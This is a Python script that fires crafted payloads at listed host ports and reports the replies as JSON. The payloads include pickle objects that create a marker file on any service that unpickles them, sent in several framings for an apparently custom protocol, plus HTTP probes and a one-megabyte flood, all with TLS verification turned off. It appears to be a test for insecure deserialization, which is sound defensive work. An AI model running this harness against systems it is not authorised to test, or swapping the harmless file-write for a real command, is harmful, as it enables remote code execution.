"""What a stranger may send to a port: a program of the standard library alone, for any host.

    python attack_ports.py MARKER HOST:PORT...

It prints, as JSON, what each port answered to each attack. The pickle bombs would make the file
MARKER; whoever unpickles one is found out by that.
"""

from __future__ import annotations

import contextlib
import json
import pickle
import socket
import ssl
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

_TIMEOUT_S = 3.0
_AT_ONCE = 32
_ANSWER_NBYTES_MAX = 4000


class Bomb:
    """Makes a file when it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self.marker, "w")


def attacks(marker: str) -> dict[str, bytes]:
    """Return what is sent, by name."""
    bomb = pickle.dumps(Bomb(marker))
    greeting = b"HOCKET" + b"\x00\x01" + b"\x01" + b"\x01" + bytes(6) + bytes(32)
    return {
        "nothing": b"",
        "http": b"GET /status HTTP/1.1\r\nHost: x\r\n\r\n",
        "http-post": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n\r\nboom",
        "bomb": bomb,
        "bomb-framed": len(bomb).to_bytes(8, "little") + bomb,
        "bomb-for-distributed": (1).to_bytes(8, "little") + len(bomb).to_bytes(8, "little") + bomb,
        "greeting": greeting,
        "greeting-and-bomb": greeting + bomb * 10,
        "greeting-as-worker": greeting[:9] + b"\x03" + greeting[10:] + bytes(32) + bomb,
        "greeting-for-data": greeting[:8] + b"\x02" + greeting[9:] + bytes(32) + bomb,
        "long": b"\xff" * 1_000_000,
    }


def strike(host: str, port: int, sent: bytes, *, tls: bool) -> str:
    """Send something; return what came back, as hexadecimal digits, or why nothing could."""
    answer = b""
    with contextlib.ExitStack() as stack:
        try:
            way: socket.socket = stack.enter_context(
                socket.create_connection((host, port), _TIMEOUT_S)
            )
            if tls:
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                context.check_hostname = False
                context.verify_mode = ssl.CERT_NONE
                way = stack.enter_context(context.wrap_socket(way))
        except OSError as error:
            return f"no connection: {type(error).__name__}"
        with contextlib.suppress(OSError):
            way.sendall(sent)
            if not tls:
                way.shutdown(socket.SHUT_WR)
            while len(answer) < _ANSWER_NBYTES_MAX and (piece := way.recv(4096)):
                answer += piece
    return answer.hex()


def strikes(marker: str, places: list[str]) -> list[tuple[str, str, bool, str]]:
    """Return place, attack, whether it was under TLS, and the answer; many are made at once."""

    def one(place: str, name: str, sent: bytes, tls: bool) -> tuple[str, str, bool, str]:
        host, _, port = place.rpartition(":")
        return place, name, tls, strike(host, int(port), sent, tls=tls)

    with ThreadPoolExecutor(_AT_ONCE) as threads:
        asked = [
            threads.submit(one, place, name, sent, tls)
            for place in places
            for name, sent in attacks(marker).items()
            for tls in (False, True)
        ]
        return [each.result() for each in asked]


if __name__ == "__main__":
    Path(sys.argv[1]).parent.mkdir(exist_ok=True)
    json.dump(strikes(sys.argv[1], sys.argv[2:]), sys.stdout)
